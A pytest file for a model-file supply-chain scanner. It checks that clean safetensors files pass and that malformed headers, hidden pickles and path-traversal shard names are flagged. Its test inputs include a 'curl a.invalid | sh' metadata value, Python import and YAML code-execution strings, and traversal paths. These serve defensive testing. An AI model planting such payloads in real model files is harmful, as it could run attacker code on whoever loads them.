"""Safetensors: real files are clean, and every way in which a header can lie is told."""

import base64
import json
import random
import struct
import time

import numpy as np
import pytest
import torch
from safetensors import SafetensorError, deserialize
from safetensors.numpy import save as save_numpy
from safetensors.torch import save as save_torch

from holdfast.core.errors import NotApplicable
from holdfast.supply.files import Scan, scan_bytes
from holdfast.supply.rules import Verdict
from holdfast.supply.scanners.safetensors_scan import SafetensorsScan
from tests.supply.bypasses import EVIL, zipped

HALF = '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'


def entry(dtype: str = "F32", shape: object = (2,), place: object = (0, 8), **more: object) -> dict:
    return {"dtype": dtype, "shape": shape, "data_offsets": place, **more}


def built(header: object, data: bytes = bytes(8), size: int | None = None) -> bytes:
    """A file of this header; a text or bytes are taken as they are."""
    raw = json.dumps(header) if not isinstance(header, str | bytes) else header
    raw = raw.encode() if isinstance(raw, str) else raw
    return struct.pack("<Q", len(raw) if size is None else size) + raw + data


def scanned(content: bytes, file: str = "model.safetensors") -> Scan:
    return scan_bytes(content, file)


def rules(scan: Scan) -> set[str]:
    return {issue.rule.id.removeprefix("safetensors_scan/") for issue in scan.issues}


GOOD = built({"a": entry()})
BENIGN = {
    "torch": save_torch(torch.nn.Linear(3, 4).state_dict(), {"format": "pt"}),
    "half": save_torch({"w": torch.zeros(3, 5, dtype=torch.bfloat16), "s": torch.tensor(1.0)}),
    "eight bits": save_torch({"w": torch.zeros(4, dtype=torch.float8_e4m3fn)}),
    "empty tensors": save_numpy({"a": np.zeros((0, 3), "f4"), "b": np.arange(4), "c": np.zeros(0)}),
    "no tensors": save_numpy({}),
    "many": save_numpy({f"layer.{i}.w": np.zeros(i % 5, "f2") for i in range(300)}),
    "metadata": save_numpy(
        {"a": np.zeros(2)},
        {"ss_tag_frequency": json.dumps({"1_cat": {"cat (animal)": 12, "eval": 3}}),
         "modelspec.thumbnail": "data:image/jpeg;base64," + base64.b64encode(bytes(900)).decode(),
         "description": "Evaluated (5-shot) by eval (harness); see https://example.org/a?b=c"},
    ),
    "four bits": built({"a": entry("F4", [4, 4])}),
    "padding": built(json.dumps({"a": entry()}) + " " * 4000),
}  # fmt: skip


@pytest.mark.parametrize("content", BENIGN.values(), ids=BENIGN)
def test_what_the_library_writes_is_clean(content) -> None:
    scan = scanned(content)
    assert scan.verdict is Verdict.CLEAN, scan.issues
    assert [(p.format, p.size) for p in scan.pieces] == [("safetensors", len(content))]
    assert scanned(content, "renamed.bin").verdict is Verdict.CLEAN


def test_a_header_of_any_length_is_not_taken_for_a_pickle() -> None:
    for extra in range(0, 2600, 8):  # among them lengths that begin as a pickle's header does
        raw = json.dumps({"a": entry(), "__metadata__": {"x": "y" * extra}})
        assert scanned(built(raw)).verdict is Verdict.CLEAN


PICKLED = base64.b64encode(EVIL + bytes(8)).decode()
LIES = {
    "length behind the end": (built({"a": entry()}, size=10_000), "header"),
    "huge length": (built({"a": entry()}, size=2**63), "header"),
    "length beyond the limit": (built({"a": entry()}, size=100_000_001), "header"),
    "white space first": (built(" " + json.dumps({"a": entry()})), "header"),
    "much padding": (built(json.dumps({"a": entry()}) + " " * 70_000), "header"),
    "lines of padding": (built(json.dumps({"a": entry()}) + "\n\n\t"), "header"),
    "zero bytes as padding": (built(json.dumps({"a": entry()}) + "\0\0"), "header"),
    "no utf-8": (built(b'{"\xff":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), "header"),
    "double names": (built(HALF + "," + HALF[1:] + "}"), "header"),
    "double names by escapes": (built(HALF + ',"\\u0061"' + HALF[4:] + "}"), "header"),
    "double field": (built(HALF[:-1] + ',"shape":[2]}}'), "header"),
    "double metadata": (built('{"__metadata__":{},"__metadata__":{}}', b""), "header"),
    "unknown field": (built({"a": entry(code="x")}), "header"),
    "no place": (built({"a": {"dtype": "F32", "shape": [2]}}), "header"),
    "not a number": (built({"a": entry(place=[0, float("nan")])}), "header"),
    "a fraction": (built({"a": entry(shape=[2.0])}), "header"),
    "truth for a number": (built({"a": entry(shape=[True, 2])}), "header"),
    "negative": (built({"a": entry(shape=[-1, -2])}), "header"),
    "backwards": (built({"a": entry(place=[8, 0])}), "header"),
    "beyond 64 bits": (built({"a": entry(shape=[2**64])}), "header"),
    "digits without end": (built('{"a":' + "9" * 5000 + "}"), "header"),
    "many dimensions": (built({"a": entry(shape=[1] * 65)}), "header"),
    "metadata of numbers": (built({"a": entry(), "__metadata__": {"x": 1}}), "header"),
    "deep": (built('{"a":' + "[" * 90_000 + "]" * 90_000 + "}"), "header"),
    "shape and place differ": (built({"a": entry(shape=[3])}), "layout"),
    "product that wraps": (built({"a": entry(shape=[2**62 + 2, 4, 1])}), "layout"),
    "gap": (built({"a": entry(place=[8, 16])}, bytes(16)), "layout"),
    "gap between": (built({"a": entry(), "b": entry(place=[16, 24])}, bytes(24)), "layout"),
    "overlap": (built({"a": entry(), "b": entry(place=[4, 12])}, bytes(12)), "layout"),
    "the same bytes twice": (built({"a": entry(), "b": entry()}), "layout"),
    "an empty one within": (built({"a": entry(), "b": entry(shape=[0], place=[4, 4])}), "layout"),
    "tail": (GOOD + b"tail", "layout"),
    "too short": (GOOD[:-1], "layout"),
    "places far away": (built({"a": entry(place=[2**40, 2**40 + 8])}), "layout"),
    "unknown type": (built({"a": entry("Q7")}), "unknown-type"),
    "code": (built({"a": entry(), "__metadata__": {"x": "__import__('os')"}}), "code-in-metadata"),
    "target": (built({"__metadata__": {"x": '{"_target_": "os.getcwd"}'}}, b""), "code-in-metadata"),
    "script": (built({"a": entry(), "__metadata__": {"<script src=x>": ""}}), "code-in-metadata"),
    "shell": (built({"a": entry(), "__metadata__": {"x": "curl a.invalid | sh"}}), "code-in-metadata"),
    "yaml": (built({"__metadata__": {"x": "!!python/name:os.getcwd"}}, b""), "code-in-metadata"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "rule"), LIES.values(), ids=LIES)
def test_every_lie_of_a_header_is_told(content, rule) -> None:
    scan = scanned(content)
    assert scan.verdict is not Verdict.CLEAN
    assert rule in rules(scan), scan.issues


@pytest.mark.parametrize("name", [n for n, (_, rule) in LIES.items() if rule == "layout"])
def test_the_reference_reader_refuses_what_is_told_of_the_layout(name) -> None:
    with pytest.raises(SafetensorError):
        deserialize(LIES[name][0])


def test_pickles_in_metadata_tails_and_gaps_and_around_the_header_are_found() -> None:
    length = struct.pack("<BI", ord("X"), 200) + bytes(3)  # as a number: 51,288
    header = json.dumps({"a": entry(place=[0, 400])})
    around = length + header.encode().ljust(int.from_bytes(length, "little")) + bytes(400)
    pickled = bytearray(around)
    pickled[5 + 200 : 5 + 200 + len(EVIL)] = EVIL  # white space of the header, and a pickle
    for content in (
        GOOD + EVIL,
        built({"a": entry(place=[len(EVIL), len(EVIL) + 8])}, EVIL + bytes(8)),
        built({"a": entry(), "__metadata__": {"x": PICKLED}}),
        bytes(pickled),
    ):
        scan = scanned(content)
        assert scan.verdict is Verdict.FLAGGED
        assert any("os.system" in issue.title for issue in scan.issues)


def test_a_pickle_by_another_name_is_still_one() -> None:
    assert scanned(EVIL).verdict is Verdict.FLAGGED
    assert scanned(zipped({"a/data.pkl": EVIL})).verdict is Verdict.FLAGGED
    assert scanned(GOOD + zipped({"a/data.pkl": EVIL})).verdict is Verdict.FLAGGED


@pytest.mark.parametrize(
    ("file", "verdict", "rule"),
    [
        ("model-00001-of-00002.safetensors", Verdict.CLEAN, None),
        ("weights/model-00001.safetensors", Verdict.CLEAN, None),
        ("../../other/model.safetensors", Verdict.FLAGGED, "shard-path"),
        ("a\\..\\..\\m.safetensors", Verdict.FLAGGED, "shard-path"),
        ("/etc/m.safetensors", Verdict.FLAGGED, "shard-path"),
        ("C:\\m.safetensors", Verdict.FLAGGED, "shard-path"),
        ("https://a.invalid/m.safetensors", Verdict.FLAGGED, "shard-path"),
        ("pytorch_model.bin", Verdict.FLAGGED, "shard-kind"),
    ],
)
def test_an_index_leads_to_safetensors_beside_it(file, verdict, rule) -> None:
    index = json.dumps({"metadata": {"total_size": 16}, "weight_map": {"a": file, "b": file}})
    scan = scanned(index.encode(), "model.safetensors.index.json")
    assert scan.verdict is verdict
    assert rules(scan) == ({rule} if rule else set())
    assert [piece.format for piece in scan.pieces] == ["safetensors index"]


def test_torch_may_name_its_own_kind_in_its_own_index() -> None:
    index = json.dumps({"weight_map": {"a": "pytorch_model-00001.bin"}}).encode()
    assert scanned(index, "pytorch_model.bin.index.json").verdict is Verdict.CLEAN
    broken = scanned(b'{"weight_map":{"a":1,"a":2}}', "model.safetensors.index.json")
    assert broken.verdict is not Verdict.CLEAN


def test_no_mutation_crashes_hangs_or_turns_a_lie_into_a_clean_file() -> None:
    sources = [*BENIGN.values(), *(content for content, _ in LIES.values())]
    rng, begin = random.Random(0), time.monotonic()
    for content in sources:
        if len(content) > 3000:
            continue
        for cut in range(0, len(content), max(len(content) // 30, 1)):
            scan = scanned(content[:cut])  # of a byte or two, it may be clean as text
            read = {piece.format for piece in scan.pieces}
            assert scan.verdict is not Verdict.CLEAN or "safetensors" not in read
        for _ in range(30):
            changed = bytearray(content)
            for _ in range(rng.choice((1, 1, 4))):
                changed[rng.randrange(len(changed))] = rng.randrange(256)
            scan = scanned(bytes(changed))
            if scan.verdict is Verdict.CLEAN:
                deserialize(bytes(changed))  # what is called clean, the reference reader reads
    assert time.monotonic() - begin < 8


def test_long_texts_do_not_cost_long_searches() -> None:
    begin = time.monotonic()
    for text in ("gA" + " " * 10**6 + "!", "\n" * 10**6 + "(", "eval(" * 10**5, "rm " * 10**5):
        scanned(built({"a": entry(), "__metadata__": {"x": text}}))
    assert time.monotonic() - begin < 3


def test_the_scanner_answers_for_safetensors_only(tmp_path) -> None:
    for name, content in (("a.safetensors", LIES["tail"][0]), ("b.pkl", EVIL)):
        (tmp_path / name).write_bytes(content)
    found = list(SafetensorsScan().scan(tmp_path / "a.safetensors"))
    assert [f.rule for f in found] == ["supply/safetensors_scan/layout", "supply/archive_scan/read"]
    with pytest.raises(NotApplicable):
        list(SafetensorsScan().scan(tmp_path / "b.pkl"))


def test_a_large_file_is_read_without_its_numbers() -> None:
    content = built({"a": entry(shape=[2**24], place=[0, 2**26])}, bytes(2**26))
    begin = time.monotonic()
    assert scanned(content).verdict is Verdict.CLEAN
    assert time.monotonic() - begin < 0.5
